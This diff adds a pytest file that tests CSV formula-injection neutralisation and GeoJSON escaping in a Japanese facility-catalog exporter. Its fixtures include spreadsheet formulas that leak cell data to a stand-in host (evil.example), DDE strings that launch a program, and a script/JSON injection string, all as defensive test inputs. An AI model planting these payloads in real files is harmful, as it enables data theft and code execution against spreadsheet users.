@@ -1,0 +1,90 @@
+"""CSV export must not hand a spreadsheet a formula to run (CSV/formula injection)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import shutil
+from pathlib import Path
+
+import pytest
+
+from finder import Catalog, Item, Municipality, load_catalog
+from finder.csvio import neutralize_formula
+from finder.export import EXPORT_COLUMNS, catalog_csv, catalog_geojson
+
+BASE = Path(__file__).resolve().parent / "badinput" / "_base"
+DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"詳しくはこちら")',
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
+    "-",
+    "+",
+]
+
+
+@pytest.mark.parametrize("value", PAYLOADS)
+def test_neutralize_formula_prefixes_a_quote(value):
+    assert neutralize_formula(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["", "住民票の写し", "-1", "-12.5", "+81", "1e5", "36.34", "'=already quoted",
+                                   "a=b", "メール@例", " =1+1 は数式ではない"])
+def test_neutralize_formula_leaves_plain_text_and_numbers(value):
+    assert neutralize_formula(value) == value
+
+
+def _catalog_with(payload: str) -> Catalog:
+    city = Municipality("082031", "土浦市", "つちうらし", "Tsuchiura City", "茨城県")
+    item = Item(kind="wifi", id="x-1", title=payload, title_kana=payload, title_en=payload, municipality=payload,
+                municipality_code="082031", summary=payload, keywords=(payload,), lat=36.08, lon=140.21,
+                coord_precision="exact", source=payload, checked="2026-11-01", data={"title": payload})
+    return Catalog([item], [city])
+
+
+def _cells(data: bytes) -> list[dict[str, str]]:
+    assert data.startswith(b"\xef\xbb\xbf")  # BOM so Excel reads UTF-8 Japanese
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_catalog_csv_neutralises_every_text_cell(payload):
+    rows = _cells(catalog_csv(_catalog_with(payload)))
+    assert len(rows) == 1
+    row = rows[0]
+    assert list(row) == EXPORT_COLUMNS
+    for column in ("title", "title_kana", "title_en", "municipality", "summary", "source"):
+        assert row[column] == "'" + payload, column
+    for column, value in row.items():
+        assert not value.startswith(DANGEROUS_START), (column, value)
+    assert row["lat"] == "36.080000" and row["lon"] == "140.210000"  # numbers stay numbers
+
+
+def test_formula_that_passes_validation_is_neutralised_on_export(tmp_path):
+    """validate rejects = + @ starts; a leading '-' formula is valid text, so export is the last guard."""
+    catalog_dir = tmp_path / "cat"
+    shutil.copytree(BASE, catalog_dir)
+    wifi = catalog_dir / "wifi.csv"
+    payload = "-2+3+cmd|' /C calc'!A0"
+    wifi.write_text(wifi.read_text(encoding="utf-8").replace(",Test Park,", f",{payload},", 1), encoding="utf-8")
+    catalog = load_catalog(catalog_dir)
+    assert catalog.get("bi-wifi-1").title_en == payload
+    row = next(r for r in _cells(catalog_csv(catalog)) if r["id"] == "bi-wifi-1")
+    assert row["title_en"] == "'" + payload
+
+
+def test_geojson_keeps_text_as_data():
+    payload = '<script>alert(1)</script>"},{"injected":true'
+    doc = json.loads(catalog_geojson(_catalog_with(payload)))
+    (feature,) = doc["features"]
+    assert feature["properties"]["title"] == payload
+    assert "injected" not in feature["properties"]
+    assert feature["geometry"]["coordinates"] == [140.21, 36.08]
